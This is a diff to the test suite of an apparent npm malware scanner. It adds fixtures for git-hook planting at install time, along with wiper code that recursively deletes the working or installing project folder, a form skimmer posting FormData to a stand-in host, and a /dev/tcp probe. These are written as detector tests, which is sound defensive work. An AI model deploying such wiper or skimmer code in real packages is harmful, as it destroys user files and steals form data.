@@ -6,7 +6,7 @@
  * engine. Each is rewritten small and varied here, with a look-alike that must stay quiet.
  */
 import { analyzeSource } from './helpers';
-import { ownCommandTargets, sourcedFiles } from '../../../src/engine/shell';
+import { hookBodies, ownCommandTargets, sourcedFiles } from '../../../src/engine/shell';
 import { envGivenSecrets } from '../../../src/engine/workflows';
 
 const threats = (r: ReturnType<typeof analyzeSource>) =>
@@ -63,7 +63,7 @@ describe("a git hook planted at install runs the package's own program: that pro
     scripts: { postinstall: 'node scripts/hooks.js' },
   });
 
-  it('the program the hook runs is read as install-time code: its download renamed into place and run is a dropper', () => {
+  it('the program the hook runs is read as code that runs on its own: its download renamed into place and run is a dropper', () => {
     const r = analyzeSource({
       'package.json': manifest,
       'scripts/hooks.js': planter,
@@ -73,7 +73,7 @@ describe("a git hook planted at install runs the package's own program: that pro
     expect(r.risk_level).toBe('critical');
     const drop = ruleOf(r, 'js.drop-and-run');
     expect(drop?.file).toBe('lib/rules.js');
-    expect(drop?.install_time).toBe(true);
+    expect(drop?.confidence).toBeGreaterThanOrEqual(0.8);
   });
 
   it('a hook manager writing the commands its user configured into a worktree hooks folder stays quiet', () => {
@@ -398,7 +398,7 @@ describe('a state machine run by a function that calls itself with the next even
 });
 
 describe("attacker rewrites of round 72's fixes", () => {
-  it('a hook written by the install shell script, running a file of the package, makes that file install-time code', () => {
+  it('a hook written by the install shell script, running a file of the package, makes that file code that runs on its own', () => {
     const r = analyzeSource({
       'package.json': JSON.stringify({
         name: 'msg-lint',
@@ -419,8 +419,7 @@ describe("attacker rewrites of round 72's fixes", () => {
       ].join('\n'),
     });
     expect(r.risk_level).toBe('critical');
-    const run = threats(r).find((f) => f.file === 'dist/warm.js' && f.confidence >= 0.7);
-    expect(run?.install_time).toBe(true);
+    expect(threats(r).find((f) => f.file === 'dist/warm.js' && f.confidence >= 0.7)).toBeDefined();
   });
 
   it('a handler added with window.addEventListener, or bare, through a helper, for a set of field events', () => {
@@ -477,5 +476,129 @@ describe('round 73 (precision): a helper handed the whole environment returns wh
       ].join('\n'),
     });
     expect(ruleOf(r, 'js.exfil-flow')?.message).toContain('whole environment');
+  });
+});
+
+describe('review of the eighteenth session', () => {
+  const hookPkg = (bin: string, hook = 'npx --no-install msgtool check') => ({
+    'package.json': JSON.stringify({
+      name: 'msgtool',
+      version: '1.0.0',
+      bin: { msgtool: 'bin/msgtool.js' },
+      scripts: { postinstall: 'node scripts/hook.js' },
+    }),
+    'scripts/hook.js': [
+      "const fs = require('fs');",
+      "const path = require('path');",
+      "const dir = path.join(process.env.INIT_CWD || process.cwd(), '.git', 'hooks');",
+      `fs.writeFileSync(path.join(dir, 'commit-msg'), '#!/bin/sh\\n${hook} "$1"\\n', { mode: 0o755 });`,
+    ].join('\n'),
+    'bin/msgtool.js': bin,
+  });
+
+  it('many flags before a word that is not a program, and a long line of .git folders, end at once', () => {
+    const flags = Array.from({ length: 40 }, (_, i) => `--f${i}`).join(' ');
+    expect(ownCommandTargets(`npx ${flags} !`, { tool: 'bin/t.js' }, 'tool')).toEqual([]);
+    expect(hookBodies(`echo x > ${'.git/'.repeat(20_000)}none`)).toEqual([]);
+  });
+
+  it("a hook's program that sends its token to the API it is for stays quiet (it runs in git, not in npm)", () => {
+    const r = analyzeSource(
+      hookPkg(
+        [
+          "const sha = process.argv[3] || '';",
+          "fetch('https://api.github.com/repos/o/r/commits/' + sha, { headers: { authorization: 'Bearer ' + process.env.GITHUB_TOKEN } });",
+        ].join('\n'),
+      ),
+    );
+    expect(strong(r)).toEqual([]);
+  });
+
+  it("a hook's program that empties the folder git runs it in is a wiper", () => {
+    const r = analyzeSource(
+      hookPkg(
+        [
+          "const fs = require('fs');",
+          'for (const n of fs.readdirSync(process.cwd())) fs.rmSync(n, { recursive: true, force: true });',
+        ].join('\n'),
+      ),
+    );
+    expect(r.risk_level).toBe('critical');
+    expect(ruleOf(r, 'js.destructive-user-data')).toBeDefined();
+  });
+
+  it('only the subcommand the hook runs is followed: another one that deletes its own backups is not', () => {
+    const r = analyzeSource(
+      hookPkg(
+        [
+          "const fs = require('fs');",
+          "const path = require('path');",
+          'const [cmd] = process.argv.slice(2);',
+          "const dir = path.join(process.cwd(), '.git', 'hooks');",
+          'switch (cmd) {',
+          "  case 'check': console.log('ok'); break;",
+          "  case 'clean': for (const n of fs.readdirSync(dir)) fs.renameSync(path.join(dir, n), path.join(dir, n + '.bak')); break;",
+          '}',
+        ].join('\n'),
+      ),
+    );
+    expect(strong(r)).toEqual([]);
+  });
+
+  it('an install step that moves to the project first lists the project, not its own folder', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'tidyup',
+        version: '1.0.0',
+        scripts: { postinstall: 'node clean.js' },
+      }),
+      'clean.js': [
+        "const fs = require('fs');",
+        'process.chdir(process.env.INIT_CWD);',
+        'for (const n of fs.readdirSync(process.cwd())) fs.rmSync(n, { recursive: true, force: true });',
+      ].join('\n'),
+    });
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it('a port probe in a sourced helper is not a reverse shell', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'fastcrc',
+        version: '2.1.0',
+        scripts: { install: 'bash tools/build.sh' },
+      }),
+      'tools/build.sh': '#!/bin/bash\n. "$(dirname "$0")/lib.sh"\nport_open localhost 5432 && echo up\n',
+      'tools/lib.sh': 'port_open() { (echo > /dev/tcp/$1/$2) >/dev/null 2>&1; }\n',
+    });
+    expect(ruleOf(r, 'shell.reverse-shell')).toBeUndefined();
+  });
+
+  it("the form of a page-wide event's field, sent whole to a fixed host, is a skimmer", () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'formsense', version: '1.0.0', main: 'index.js' }),
+      'index.js': [
+        "document.addEventListener('change', (e) => {",
+        '  const f = e.target.form;',
+        "  if (f) fetch('https://c.formsense-cdn.example/f', { method: 'POST', body: new FormData(f) });",
+        '}, true);',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.page-secret-exfil')).toBeDefined();
+  });
+
+  it('secrets given in a flow mapping or a block scalar are read too', () => {
+    const yml = 'env: { A: ${{ toJSON(secrets) }}, B: "${{ secrets.B }}" }\n  C: >-\n    ${{ secrets.C }}\n';
+    expect([...envGivenSecrets(yml)]).toEqual([
+      ['A', 'all'],
+      ['B', 'one'],
+      ['C', 'one'],
+    ]);
+  });
+
+  it('a hook that runs a file of the package by a path built from its folder names that file', () => {
+    expect(ownCommandTargets('node "${…}/../bin/msgtool.js" check', {}, 'msgtool')).toContain(
+      'bin/msgtool.js',
+    );
   });
 });
